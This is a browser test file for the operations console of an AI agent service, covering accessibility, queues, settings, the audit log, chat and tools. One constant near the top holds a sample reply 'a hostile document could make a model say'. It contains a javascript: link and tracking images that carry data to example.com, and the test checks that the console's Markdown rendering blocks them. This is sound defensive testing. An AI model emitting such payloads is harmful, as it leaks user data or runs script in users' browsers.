import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { violations } from './support/axe.ts'
import { skipsBrowser } from './support/browser.ts'
import { openTestConsole, type TestConsole } from './support/console.ts'
import { invoiceLines, makePdf } from './support/documents.ts'
import { findFaintTexts, focused, overflow, typeWhenDrawn } from './support/in-page.mjs'
import { type MockModel, startMockModel, toolThenAnswer } from './support/mock-model.ts'
import { fileOfSmallModel } from './support/small-model.ts'
import { lookAgain } from './support/until.ts'

let shown: TestConsole
let model: MockModel
beforeAll(async () => {
  if (skipsBrowser) return
  const read = toolThenAnswer({ total: 144 })
  model = await startMockModel({
    script: (request) => (request.text.includes('Compare') ? { text: markdown } : read(request)),
  })
  shown = await openTestConsole({
    file: { ...fileOfSmallModel(model.baseUrl), routes: { 'svc-agent-1:fast': 'embedded' } },
  })
  await shown.service.call('POST', '/v1/agent/create', {
    body: { name: 'totals', config: { prompt: 'Extract the total' } },
  })
  const body = { batch: false, model: 'svc-agent-1:fast', inputs: { text: 'Total: 5.00' } }
  for (const session_id of ['first', 'second'])
    await shown.service.call('POST', '/v1/agent/execute', {
      body: { ...body, name: 'totals', config: { prompt: 'Extract the total' }, metadata: { session_id } },
    })
})
afterAll(async () => {
  await shown?.[Symbol.asyncDispose]()
  await model?.[Symbol.asyncDispose]()
})

/** A reply with what a hostile document could make a model say. */
const markdown = `## Two offers

| offer | total |
| --- | ---: |
| **Blue** | 12.50 |
| Red | 13.00 |

1. Take \`Blue\`
2. See [the terms](https://example.com/terms) and [more](javascript:alert(1))

![the map](https://example.com/map.png?read=1250) <img src="https://example.com/spy.png">`

const screens = ['/queues', '/settings', '/audit', '/agents', '/sessions', '/chat', '/tools']
/** WCAG 2.2, success criterion 1.4.3. */
const contrastMin = 4.5

describe.skipIf(skipsBrowser)('the screens of operations', () => {
  test.each(['light', 'dark'] as const)(
    'in %s colours axe finds no violation, every text stands out, and a phone cuts nothing off',
    async (colorScheme) => {
      const page = await shown.page()
      await page.emulateMedia({ colorScheme })
      for (const path of screens) {
        await page.goto(path)
        await page.getByRole('heading', { level: 1 }).waitFor()
        await expect.poll(() => page.locator('[aria-busy=true]').count()).toBe(0)
        expect([path, await violations(page)]).toEqual([path, []])
        await page.setViewportSize({ width: 390, height: 844 })
        expect([path, await page.evaluate(overflow)]).toEqual([path, 0])
        expect([path, await page.evaluate(findFaintTexts, contrastMin)]).toEqual([path, []])
        await page.setViewportSize({ width: 1280, height: 900 })
      }
      expect(shown.browser.complaints).toEqual([])
      await page.close()
    },
  )

  test('the queues show slots and what waits, and what is paused is resumed in bulk by keyboard', async () => {
    const { service } = shown
    const { json } = await service.call('POST', '/v1/agent/execute', {
      body: { model: 'svc-agent-1:fast', inputs: { text: 'Total: 5.00' }, config: { prompt: 'Extract the total' } },
    })
    const at = `/v1/agent/executions/${json.id}`
    let { status } = json
    while (status !== 'completed') {
      ;({ status } = (await service.call('GET', at)).json)
      await lookAgain()
    }
    await service.database.db.query(
      `update executions set status = 'paused', response = null, completed_at = null where id = $1`,
      [json.id],
    )
    const page = await shown.page('/queues')
    const row = page.getByRole('region', { name: 'Tiers' }).getByRole('row').filter({ hasText: 'standard' })
    await expect.poll(() => row.textContent()).toMatch(/^standard800–100/)
    expect(await page.getByRole('region', { name: 'Workers' }).textContent()).toContain(String(process.pid))
    await page.getByRole('button', { name: 'Resume 1 paused' }).focus()
    await page.keyboard.press('Enter')
    await page.keyboard.press('Enter')
    await page.getByText('1 execution resumed').waitFor()
    await expect.poll(async () => (await service.call('GET', at)).json.status).not.toBe('paused')
    await page.close()
  })

  test('the settings change the review threshold, rotate the callback secret and show models, prices and limits', async () => {
    const { service } = shown
    const page = await shown.page('/settings')
    const review = page.getByRole('form', { name: 'All executions' })
    await review.getByRole('checkbox', { name: /review what is not sure/ }).check()
    await review.getByLabel('Below, in % confidence').fill('90')
    await review.getByLabel('Wrong values above it, in % at most').fill('5')
    await review.getByRole('button', { name: 'Save' }).click()
    await expect
      .poll(async () => (await service.call('GET', '/v1/reviews/settings')).json)
      .toEqual([{ skill_name: null, below: 0.9, max_wrong_rate: 0.05, add_cases: false }])
    await page.reload()
    await review.getByLabel('Wrong values above it, in % at most').fill('2,5')
    await review.getByRole('button', { name: 'Save' }).click()
    const settings = async () => (await service.call('GET', '/v1/reviews/settings')).json
    await expect.poll(settings).toMatchObject([{ below: 0.9, max_wrong_rate: 0.025 }])
    // A comma is always the decimal one.
    await page.reload()
    await review.getByLabel('Below, in % confidence').fill('98,765')
    await review.getByRole('button', { name: 'Save' }).click()
    await expect.poll(settings).toMatchObject([{ below: 0.98765 }])
    await page.reload()
    await review.getByLabel('Below, in % confidence').fill('5 or 6')
    expect(await review.getByRole('button', { name: 'Save' }).isDisabled()).toBe(true)
    // A threshold that reviews have moved is saved again as it is.
    await service.call('PUT', '/v1/reviews/settings', { body: { below: 0.98765432 } })
    await page.reload()
    await review.getByRole('checkbox', { name: /test cases/ }).check()
    await review.getByRole('button', { name: 'Save' }).click()
    await expect.poll(settings).toMatchObject([{ below: 0.98765432, add_cases: true }])
    const secret = page.getByRole('region', { name: 'Callback secret' })
    await secret.getByRole('button', { name: 'Show' }).click()
    const before = (await service.call('GET', '/v1/callback-secret')).json.secret
    await secret.getByText(before).waitFor()
    await secret.getByRole('button', { name: 'Rotate' }).click()
    await secret.getByRole('button', { name: 'Sign with a new secret?' }).click()
    await secret.getByText('the previous one signs until').waitFor()
    expect(await secret.textContent()).not.toContain(before)
    const models = page.getByRole('region', { name: 'Models' })
    expect(await models.getByRole('row').filter({ hasText: 'svc-agent-1:pro' }).textContent()).toMatch(
      /mine\/small\$2.*\$12/,
    )
    expect(await page.locator('.limits').textContent()).toMatch(/Requests per minute12,000/)
    await page.close()
  })

  test('a double click on what cannot be undone still asks', async () => {
    const { id } = await shown.service.upload(Buffer.from('Total: 5'), 'twice.txt')
    const page = await shown.page('/files')
    const row = page.getByRole('listitem').filter({ hasText: 'twice.txt' })
    await row.getByRole('button', { name: 'Delete' }).dblclick()
    const asked = row.getByRole('button', { name: 'Delete permanently?' })
    await asked.waitFor()
    expect((await shown.service.call('GET', `/v1/files/${id}`)).status).toBe(200)
    await asked.click()
    await expect.poll(async () => (await shown.service.call('GET', `/v1/files/${id}`)).status).toBe(404)
    await page.close()
  })

  test('the audit log is filtered by action', async () => {
    await shown.service.call('POST', '/v1/keys', { body: { name: 'for the log', scopes: ['read'] } })
    const page = await shown.page()
    // What is typed before the list is here stays.
    const arrival = Promise.withResolvers<void>()
    await page.route(/\/v1\/audit/, async (route) => {
      await arrival.promise
      await route.continue()
    })
    await page.goto('/audit')
    await page.getByLabel('Action').pressSequentially('key.cre')
    arrival.resolve()
    await page.getByRole('region', { name: 'Audit log' }).waitFor()
    await page.getByLabel('Action').pressSequentially('ate')
    await page.waitForURL((url) => url.searchParams.get('action') === 'key.create')
    const rows = page.getByRole('region', { name: 'Audit log' }).getByRole('row')
    await expect.poll(() => rows.nth(1).textContent()).toContain('name: for the log')
    await page.close()
  })

  test('what is typed into a filter as soon as it is there stays', async () => {
    const page = await shown.page()
    await page.addInitScript(typeWhenDrawn, { placeholder: 'key.create', text: 'k' })
    await page.goto('/audit')
    await page.waitForURL((url) => url.searchParams.get('action') === 'k')
    expect(await page.getByLabel('Action').inputValue()).toBe('k')
    await page.close()
  })

  test('the audit log goes on to older entries beyond what one request may ask for', async () => {
    const page = await shown.page()
    await page.route(/\/v1\/audit/, async (route) => {
      const { searchParams } = new URL(route.request().url())
      const [limit = 0, skip = 0] = ['limit', 'skip'].map((name) => Number(searchParams.get(name)))
      if (limit > 1000) return route.fulfill({ status: 422, json: { detail: 'limit is at most 1000' } })
      const one = (at: number) => ({
        ...{ id: `entry ${at}`, created_at: '2026-03-01T00:00:00Z', action: `act.${at}`, subject_id: 'a', detail: {} },
        ...{ key_id: null, key_name: null, key_hint: null, user_name: null },
      })
      await route.fulfill({ json: Array.from({ length: limit }, (_, at) => one(skip + at)) })
    })
    await page.goto('/audit')
    const rows = page.getByRole('region', { name: 'Audit log' }).getByRole('row')
    for (let pages = 1; pages <= 11; pages++) {
      await expect.poll(() => rows.count()).toBe(pages * 100 + 1)
      await page.getByRole('button', { name: 'Older entries' }).click()
    }
    await expect.poll(() => rows.last().textContent()).toContain('act.1199')
    await page.close()
  })

  test('a chat that ends by an error after some text shows the text and the reason', async () => {
    const page = await shown.page('/chat')
    const events = [
      { id: 'chatcmpl-1', choices: [{ delta: { content: 'The total is' } }] },
      { error: { message: 'The budget of this key is used up', type: 'invalid_request_error' } },
    ]
    await page.route(/chat\/completions/, (route) =>
      route.fulfill({
        contentType: 'text/event-stream',
        body: events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(''),
      }),
    )
    await page.getByRole('textbox', { name: 'Message' }).fill('What is the total?')
    await page.keyboard.press('Enter')
    const reply = page.getByRole('article', { name: 'Reply' })
    await reply.getByText('The total is').waitFor()
    await reply.getByText('The budget of this key is used up').waitFor()
    await page.close()
  })

  test('an agent fills the Run screen, and a session leads to its executions', async () => {
    const page = await shown.page('/agents')
    await page.getByRole('list', { name: 'Agents' }).getByText('totals:1').click()
    await page.getByRole('button', { name: 'Use for a run' }).click()
    await expect.poll(() => page.getByLabel('Prompt').inputValue()).toBe('Extract the total')
    await page.goto('/sessions')
    await page.getByRole('link', { name: /^first/ }).click()
    await expect.poll(() => page.getByRole('list', { name: 'Executions' }).getByRole('listitem').count()).toBe(1)
    await page.close()
  })

  test('a chat reads a document, calls tools of the server, streams the reply and links to the execution behind it', async () => {
    const page = await shown.page('/chat')
    await page.locator('#chat-files').setInputFiles({
      name: 'invoice.pdf',
      mimeType: 'application/pdf',
      buffer: Buffer.from(await makePdf([invoiceLines])),
    })
    await page.getByText('Tools', { exact: true }).last().click()
    await page.getByRole('checkbox', { name: 'document' }).check()
    await page.getByRole('combobox', { name: 'Model' }).selectOption('svc-agent-1:pro')
    await page.getByRole('textbox', { name: 'Message' }).fill('What is the total?')
    await page.keyboard.press('Enter')
    const reply = page.getByRole('article', { name: 'Reply' })
    await reply.getByText('{"total":144}').waitFor()
    await reply.getByText('document.search').waitFor()
    await page.getByRole('textbox', { name: 'Message' }).focus()
    expect(await page.evaluate(focused)).toMatchObject({ outline: 'solid' })
    await page.getByRole('textbox', { name: 'Message' }).fill('And again?')
    await page.getByRole('button', { name: 'Send' }).click()
    await expect.poll(() => reply.getByRole('link').count()).toBe(2)
    expect(await violations(page)).toEqual([])
    const session = await page.getByRole('link', { name: /^session / }).textContent()
    const { json } = await shown.service.call('GET', `/v1/sessions`)
    expect(json[0]).toMatchObject({ id: session?.replace('session ', ''), executions: 2 })
    await reply.getByRole('link').first().click()
    await page.getByRole('tab', { name: 'Answer' }).waitFor()
    expect(shown.browser.complaints).toEqual([])
    await page.close()
  })

  test('the Markdown of a reply is drawn; no HTML of it is used and nothing in it is fetched', async () => {
    const page = await shown.page('/chat')
    const fetched: string[] = []
    page.on('request', (request) => fetched.push(request.url()))
    await page.getByRole('combobox', { name: 'Model' }).selectOption('svc-agent-1:pro')
    await page.getByRole('textbox', { name: 'Message' }).fill('Compare the two offers')
    await page.keyboard.press('Enter')
    const reply = page.getByRole('article', { name: 'Reply' })
    await reply.getByRole('cell', { name: 'Blue' }).locator('strong').waitFor()
    expect(await reply.getByRole('listitem').allTextContents()).toEqual(['Take Blue', 'See the terms and more'])
    expect(await reply.getByRole('link', { name: 'the terms' }).getAttribute('rel')).toContain('noopener')
    expect(await reply.locator('a[href^="javascript:"], img').count()).toBe(0)
    await reply.getByText('<img src="https://example.com/spy.png">').waitFor()
    await reply.getByRole('link', { name: 'the map' }).waitFor()
    expect(await violations(page)).toEqual([])
    await page.setViewportSize({ width: 390, height: 844 })
    expect(await page.evaluate(overflow)).toBe(0)
    expect(fetched.filter((url) => url.includes('example.com'))).toEqual([])
    expect(shown.browser.complaints).toEqual([])
    await page.close()
  })

  test('a tool is found by its description and shows what it takes and costs', async () => {
    const page = await shown.page('/tools')
    await page.getByLabel('Find').fill('document.search')
    const row = page.getByRole('region', { name: 'Toolset document' }).getByRole('listitem')
    await row.getByText('document.search', { exact: true }).click()
    await row.getByRole('term').getByText('Query').waitFor()
    expect(await row.first().textContent()).toContain('free')
    // It runs on a text or a file, as an execution.
    const requests = model.requests.length
    const form = row.getByRole('form', { name: 'Run document.search' })
    await form.getByLabel('Text of the document').fill('Invoice 7\nTotal: EUR 12.50')
    expect(await form.getByLabel(/^Input/).inputValue()).toBe('document')
    await form.getByLabel('Query').fill('12.50')
    await page.keyboard.press('Enter')
    await form.getByRole('region', { name: 'Result' }).getByText('12.50').first().waitFor()
    for (const [width, height] of [
      [1440, 900],
      [1024, 768],
      [390, 844],
    ] as const) {
      await page.setViewportSize({ width, height })
      expect(await violations(page)).toEqual([])
      expect(await page.evaluate(overflow)).toBe(0)
    }
    await form.getByLabel('Or a file').setInputFiles({
      name: 'note.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('The deposit is 99.00 EUR'),
    })
    await form.getByLabel('Query').fill('99.00')
    await form.getByRole('button', { name: 'Run' }).click()
    await form.getByRole('region', { name: 'Result' }).getByText('99.00').first().waitFor()
    // The tool runs by itself, although a language model is configured.
    expect(model.requests.length).toBe(requests)
    await form.getByRole('link', { name: 'Open the execution' }).click()
    await page.getByRole('tab', { name: 'Answer' }).waitFor()
    await page.close()
  })

  test('a list is typed line by line, and a value of another type is refused at its field', async () => {
    const page = await shown.page('/tools')
    const core = page.getByRole('region', { name: 'Toolset core' })
    await core.getByText('core.calculate', { exact: true }).click()
    const sums = core.getByRole('form', { name: 'Run core.calculate' })
    await sums.getByLabel('Formulas').fill('1 + 2\n20% * 50')
    await sums.getByRole('button', { name: 'Run' }).click()
    await expect.poll(() => sums.getByRole('region', { name: 'Result' }).textContent()).toMatch(/"3".*"10"/s)
    await core.getByText('core.date', { exact: true }).click()
    const dates = core.getByRole('form', { name: 'Run core.date' })
    await dates.getByLabel('Operation').selectOption('add')
    await dates.getByLabel(/^Days/).fill('ten')
    await dates.getByRole('button', { name: 'Run' }).click()
    await dates.getByRole('alert').getByText('Days: enter a number').waitFor()
    expect(shown.browser.complaints).toEqual([])
    await page.close()
  })
})
